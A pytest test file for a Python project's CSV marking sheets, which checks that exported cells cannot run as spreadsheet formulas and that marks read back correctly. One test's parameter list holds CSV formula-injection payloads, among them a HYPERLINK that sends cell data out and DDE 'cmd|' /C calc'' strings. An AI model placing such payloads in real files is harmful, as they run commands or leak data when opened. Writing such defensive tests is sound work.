"""Sheets for people: nothing in them runs, nothing is lost, and a marker's slips are named."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mathagent.data import Mark, SheetRow, read_marks, write_sheet
from mathagent.errors import DataError
from tests.data.properties import steady

ROWS = [
    SheetRow("1", "已知 $x$", "3", "so\n\nx = 3", 2),
    SheetRow("-2", 'Say "a, b"', "-1", "=1+1", 3.5),
    SheetRow("@x", "?", "+", "\t=cmd", None),
]


def cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def marked(path: Path, *marks: str) -> Path:
    """The sheet as a person gives it back: with marks in the last column."""
    header, *rows = cells(path)
    back = path.with_name("back.csv")
    with back.open("w", encoding="utf-8-sig", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(header)
        writer.writerows([*row[:-1], mark] for row, mark in zip(rows, marks, strict=True))
    return back


def test_a_sheet_goes_out_and_comes_back(tmp_path: Path) -> None:
    path = tmp_path / "sheet.csv"
    assert write_sheet(ROWS, path) == 3
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    assert cells(path) == [
        ["id", "problem", "answer", "solution", "max_marks", "marks"],
        ["1", "已知 $x$", "3", "so\n\nx = 3", "2", ""],
        ["-2", 'Say "a, b"', "-1", "'=1+1", "3.5", ""],
        ["'@x", "?", "'+", "\t'=cmd", "", ""],
    ]
    marks = read_marks(marked(path, "2", "1,5", ""), ids=["1", "-2", "@x", "lost"])
    assert marks.given == (Mark("1", 2, 2), Mark("-2", 1.5, 3.5))
    assert marks.missing == ("@x", "lost")
    assert sorted(each.name for each in tmp_path.iterdir()) == ["back.csv", "sheet.csv"]


def starts_a_formula(cell: str) -> bool:
    bare = cell.lstrip(" \t\r\n\0\"'")
    text = cell.strip(' \t\r\n\0"')
    return not text.startswith("'") and bare[:1] in tuple("=+-@＝＋－＠")


@pytest.mark.parametrize(
    "attack",
    [
        '=HYPERLINK("http://x/?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)",
        "  =1+1",
        "\t=1+1",
        "\r\n=1+1",
        "＝1+1",
        "ok;=1+1",
        'ok;"=1+1',
        "ok\t@SUM(1)",
        "ok\n=1+1",
        "ok|-1+1|",
    ],
)
def test_a_formula_is_text_whatever_separator_the_program_takes(tmp_path: Path, attack: str) -> None:
    path = tmp_path / "sheet.csv"
    write_sheet([SheetRow("1", attack, attack, attack)], path)
    text = path.read_text(encoding="utf-8-sig")
    for delimiter in ",;\t|":
        for row in csv.reader(text.splitlines(), delimiter=delimiter):
            assert not [cell for cell in row if starts_a_formula(cell)], (delimiter, row)


@pytest.mark.parametrize("number", ["-1", "+2.5", "-0,5", "1000"])
def test_a_plain_number_stays_a_number(tmp_path: Path, number: str) -> None:
    write_sheet([SheetRow("1", "?", number)], tmp_path / "sheet.csv")
    assert cells(tmp_path / "sheet.csv")[1][2] == number


@steady
@given(
    st.lists(
        st.text(min_size=1, max_size=8).filter(lambda text: text.strip()), min_size=1, max_size=5, unique=True
    ),
    st.text(max_size=30),
)
def test_any_text_goes_out_and_every_id_comes_back(tmp_path: Path, ids: list[str], text: str) -> None:
    path = tmp_path / "sheet.csv"
    write_sheet([SheetRow(each, text, text, text) for each in ids], path)
    rows = cells(path)
    assert len(rows) == len(ids) + 1
    for row in rows[1:]:
        assert (
            not starts_a_formula(row[1]) or row[1].lstrip("+-").replace(",", ".").replace(".", "").isdigit()
        )


def test_ids_of_data_sets_come_back_as_they_were(tmp_path: Path) -> None:
    ids = [
        "0",
        "-1",
        "test/algebra/1.json",
        "chal-5",
        "=x",
        "a;=b",
        "'quoted",
        "high/single_choice_zh/3@2",
        "x'=y",
    ]
    path = tmp_path / "sheet.csv"
    write_sheet([SheetRow(each, "?") for each in ids], path)
    assert [mark.id for mark in read_marks(marked(path, *["1"] * len(ids)), ids).given] == ids


@pytest.mark.parametrize("run", ["\n", ";", "'", '"', ";'", " ", "=", ";="])
def test_long_runs_take_no_time(tmp_path: Path, run: str) -> None:
    assert write_sheet([SheetRow("1", run * 100_000, "", "x" + run * 100_000)], tmp_path / "sheet.csv") == 1


def test_a_long_solution_is_cut_and_says_so(tmp_path: Path) -> None:
    write_sheet([SheetRow("1", "?", "", "x" * 40_000)], tmp_path / "sheet.csv")
    solution = cells(tmp_path / "sheet.csv")[1][3]
    assert len(solution) == 32_000
    assert solution.endswith("too long for a spreadsheet cell]")


def test_semicolons_moved_columns_and_more_of_them(tmp_path: Path) -> None:
    path = tmp_path / "back.csv"
    path.write_text("Marks;ID;Comment\r\n2,5;7;good, but\r\n;8;\r\n\r\n", encoding="utf-8")
    marks = read_marks(path)
    assert marks.given == (Mark("7", 2.5),)
    assert marks.missing == ("8",)


@pytest.mark.parametrize(
    ("content", "said"),
    [
        ("id,marks\n1,two\n", "row 2 (id 1): marks: 'two' is not a number"),
        ("id,marks\n1,-1\n", "row 2 (id 1): marks: -1 is not a number of marks"),
        ("id,marks\n1,nan\n", "row 2 (id 1): marks: nan is not a number of marks"),
        ("id,max_marks,marks\n1,2,3\n", "row 2 (id 1): 3 marks of 2"),
        ("id,marks\n1,1\n\n1,2\n", "row 4 (id 1): the id is in row 2 already"),
        ("id,marks\n,2\n", "row 2: no id"),
        ("id,marks\n9,2\n", "row 2 (id 9): no such id was handed out"),
        ("id,points\n1,2\n", "no column marks; has: id, points"),
        ("", "no column id; has: none"),
        ('id,marks\n"1,2\n', "not CSV: unexpected end of data"),
        (b"id,marks\n\xff,2\n", "not UTF-8"),
    ],
)
def test_a_slip_is_named(tmp_path: Path, content: str | bytes, said: str) -> None:
    path = tmp_path / "back.csv"
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    with pytest.raises(DataError) as caught:
        read_marks(path, ids=["1", "2"])
    assert caught.value.message == f"{path}: {said}"


def test_what_can_not_be_written_or_read(tmp_path: Path) -> None:
    with pytest.raises(DataError, match="the id '1' is given twice"):
        write_sheet([SheetRow("1", "?"), SheetRow("1", "?")], tmp_path / "sheet.csv")
    with pytest.raises(DataError, match="the id ' ' is empty"):
        write_sheet([SheetRow(" ", "?")], tmp_path / "sheet.csv")
    with pytest.raises(DataError, match="can't write"):
        write_sheet([], tmp_path / "none" / "sheet.csv")
    with pytest.raises(DataError, match="can't read"):
        read_marks(tmp_path / "sheet.csv")
    assert not list(tmp_path.iterdir())
